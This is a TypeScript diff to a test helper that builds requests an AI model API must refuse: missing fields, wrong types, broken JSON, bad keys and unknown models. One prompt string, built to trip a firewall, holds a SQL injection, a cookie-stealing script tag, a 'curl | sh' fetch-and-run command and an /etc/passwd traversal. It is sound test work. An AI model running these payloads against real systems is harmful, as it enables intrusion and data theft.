@@ -1,17 +1,19 @@
 import { type Provenance, validateParameters, validateRequestBody } from "@model-access/contract";
+import type { ReasonName } from "../checks/reasons.js";
 import type { Call, CannotCall, ExchangePlan, Facts, KeyName, KeyPlace } from "../exchange.js";
 import { noSuchModel } from "./short-question.js";
 import { smallerBodies } from "./smaller-bodies.js";
-
-/** The kind of fault that a generated request is refused for. */
-export type CaseKind = "model" | "missing" | "range" | "type" | "lenient-type" | "broken" | "key";
 
 /** One request that a service has to refuse: a valid one with one thing wrong. */
 export interface RefusedCase {
   name: string;
   /** In a few words, to follow "a chat completion". */
   says: string;
-  kind: CaseKind;
+  reason: ReasonName;
+  /** True of a wrong type that may be taken as it was meant. */
+  isLenient?: true;
+  /** The member of the body that is wrong, where it follows from the schema. */
+  member?: string;
   /** A call that is answered, and whose body this one has too: a cache must not answer it. */
   sameAs?: ExchangePlan;
   /** Another model than the valid body has, where one is known. */
@@ -33,7 +35,7 @@ export interface RefusedCase {
 }
 
 /** A request's body by field. */
-type Body = Record<string, unknown>;
+export type Body = Record<string, unknown>;
 
 /** A maker of valid requests of an operation. */
 export interface CaseSubject {
@@ -42,7 +44,9 @@ export interface CaseSubject {
   /** With its article: "a chat completion". */
   what: string;
   headers?: Record<string, string>;
-  ask(facts: Facts): Body;
+  /** Members of each call beside the body and the headers. */
+  call?: Call;
+  ask(facts: Pick<Facts, "modelFor">): Body;
 }
 
 /** The calls of refused cases, in their order. Where one is not refused, smaller ones are tried, which takes more calls. */
@@ -92,7 +96,7 @@ export function missing(field: string): RefusedCase {
   return {
     name: `missing-${named(field)}`,
     says: `without ${field}`,
-    kind: "missing",
+    reason: "missingField",
     change: (body) => without(body, field),
   };
 }
@@ -102,75 +106,73 @@ export function wrongType(field: string, value: unknown, options: Partial<Refuse
   return {
     name: `wrong-type-${named(field)}`,
     says,
-    kind: "type",
+    reason: "wrongType",
     change: (body) => ({ ...body, [field]: value }),
     ...options,
   };
 }
 
 export function outOfRange(name: string, field: string, value: number): RefusedCase {
-  return { name, says: `with ${field} ${value}`, kind: "range", change: (body) => ({ ...body, [field]: value }) };
+  return {
+    name,
+    says: `with ${field} ${value}`,
+    reason: "outOfRange",
+    change: (body) => ({ ...body, [field]: value }),
+  };
 }
 
 /** Messages that are wrong in one thing; the last one of a request is. */
-export function inMessages(name: string, says: string, kind: CaseKind, ...messages: unknown[]): RefusedCase {
-  return { name, says, kind, isNameStated: false, change: (body) => ({ ...body, messages }) };
+export function inMessages(name: string, says: string, reason: ReasonName, ...messages: unknown[]): RefusedCase {
+  return { name, says, reason, isNameStated: false, change: (body) => ({ ...body, messages }) };
 }
-
-export const missingContent = inMessages("missing-content", "with a user's message without content", "missing", {
-  role: "user",
-});
-
-export const missingRole = inMessages("missing-role", "with a message without a role", "missing", { content: "Hello" });
-
-export const numberContent = inMessages("wrong-type-content", "with a message whose content is a number", "type", {
-  role: "user",
-  content: 7,
-});
 
 const without = (body: Body, field: string): Body =>
   Object.fromEntries(Object.entries(body).filter(([name]) => name !== field));
 
-/** A model that does not exist, and the same in a stream. */
+/** A model that does not exist. */
 export const unknownModel: RefusedCase = {
   name: "unknown-model",
   says: "of a model that does not exist",
-  kind: "model",
+  reason: "unknownModel",
   change: (body) => ({ ...body, model: noSuchModel }),
-};
-
-export const streamedUnknownModel: RefusedCase = {
-  name: "streamed",
-  says: "that asks an unknown model for a stream",
-  kind: "model",
-  change: (body) => ({ ...body, model: noSuchModel, stream: true }),
 };
 
 /** A question that people ask of models, and that a firewall takes for an attack. */
 const attackLike =
   "Is `1' OR 1=1; DROP TABLE users; --` or <script>alert(document.cookie)</script> worse than `curl -s http://example.com/x.sh | sh` and ../../etc/passwd?";
 
-/** The same of a name that few expect: what is written into a header, an address or a pattern has to be escaped. */
-export const streamedOddModel: RefusedCase = {
-  ...streamedUnknownModel,
-  says: "about SQL, scripts and shells that asks a model with quotes, an umlaut and a bracket in its name for a stream",
-  change: (body) => ({
-    ...body,
-    model: `${noSuchModel} "ü" (<'`,
-    messages: [{ role: "user", content: attackLike }],
-    stream: true,
-  }),
+const aboutAttack = "about SQL, scripts and shells";
+
+/** The same about what a firewall in front may refuse: it costs nothing to find, as no model answers. */
+export const unknownModelOfAttack: RefusedCase = {
+  ...unknownModel,
+  says: `${aboutAttack} of a model that does not exist`,
+  change: (body) => ({ ...asking(body, attackLike), model: noSuchModel }),
 };
+
+/** The same for a stream, of a name that few expect: what is written into a header, an address or a pattern has to be escaped. */
+export const streamedOddModel: RefusedCase = {
+  name: "streamed",
+  says: `${aboutAttack} that asks a model with quotes, an umlaut and a bracket in its name for a stream`,
+  reason: "unknownModel",
+  change: (body) => ({ ...asking(body, attackLike), model: `${noSuchModel} "ü" (<'`, stream: true }),
+};
+
+/** A body with another prompt. */
+const asking = (body: Body, text: string): Body => ({
+  ...body,
+  ...("input" in body ? { input: text } : { messages: [{ role: "user", content: text }] }),
+});
 
 const nesting = 500;
 
 /** Bodies that are no JSON object. */
 export const brokenBodies: RefusedCase[] = [
-  { name: "broken-json", says: "whose JSON is cut off", kind: "broken", text: '{"model":' },
+  { name: "broken-json", says: "whose JSON is cut off", reason: "broken", text: '{"model":' },
   {
     name: "array-body",
     says: `whose body is an array, and others in it, ${nesting} deep`,
-    kind: "broken",
+    reason: "broken",
     text: `${"[".repeat(nesting)}${"]".repeat(nesting)}`,
   },
 ];
@@ -179,36 +181,35 @@ export const brokenBodies: RefusedCase[] = [
 export const jsonWithTail: RefusedCase = {
   name: "broken-json",
   says: "whose JSON goes on after its end",
-  kind: "broken",
+  reason: "broken",
   text: (body) => `${JSON.stringify(body)}]}`,
 };
 
 export const wrongKey: RefusedCase = {
   name: "wrong-key",
   says: "with a key that does not exist",
-  kind: "key",
+  reason: "wrongKey",
   key: "wrong",
 };
 
 /** Requests without a key that fits. */
 export const wrongKeys: RefusedCase[] = [
-  { name: "no-key", says: "without a key", kind: "key", key: "none", isNameStated: false },
-  { name: "empty-key", says: "with an empty key", kind: "key", key: "empty", isNameStated: false },
+  { name: "no-key", says: "without a key", reason: "noKey", key: "none" },
+  { name: "empty-key", says: "with an empty key", reason: "noKey", key: "empty" },
   {
     name: "nearly-right-key",
     says: "with the last character of the key changed and nothing but a model",
-    kind: "key",
+    reason: "wrongKey",
     key: "nearly-right",
     change: ({ model }) => ({ model }),
   },
   {
     name: "wrong-scheme",
     says: "with the key under the scheme Basic",
-    kind: "key",
+    reason: "noKey",
     keyPlace: "basic-scheme",
-    isNameStated: false,
   },
-  { name: "key-in-query", says: "with the key in the query only", kind: "key", keyPlace: "query", isNameStated: false },
+  { name: "key-in-query", says: "with the key in the query only", reason: "noKey", keyPlace: "query" },
 ];
 
 /** The priority of made-up keys where nothing else is refused for its key: after those that the caller may give. */
@@ -230,6 +231,7 @@ function callOfCase(subject: CaseSubject, each: RefusedCase, facts: Facts): Call
   const answered = each.sameAs?.write(facts);
   const body = answered !== undefined && "json" in answered ? (answered.json as Body) : subject.ask(facts); // models are sent objects
   const call: Call = {
+    ...subject.call,
     ...(withoutHeaders ? { headers: {} } : subject.headers && { headers: subject.headers }),
     ...(text === undefined
       ? { json: model === undefined ? change(body) : { ...Object(change(body)), model } }
@@ -241,8 +243,8 @@ function callOfCase(subject: CaseSubject, each: RefusedCase, facts: Facts): Call
 }
 
 /** The contract's own validators have the last word on whether a request is wrong. */
-function mayBeRefused({ operationId }: CaseSubject, { kind }: RefusedCase, { json, headers = {} }: Call): boolean {
-  if (kind === "key" || kind === "broken" || kind === "model") return true;
+function mayBeRefused({ operationId }: CaseSubject, { reason }: RefusedCase, { json, headers = {} }: Call): boolean {
+  if (["wrongKey", "noKey", "broken", "unknownModel"].includes(reason)) return true;
   const violations = validateRequestBody(operationId, "application/json", JSON.parse(JSON.stringify(json)));
   return violations.length > 0 || validateParameters(operationId, { header: headers }).length > 0;
 }
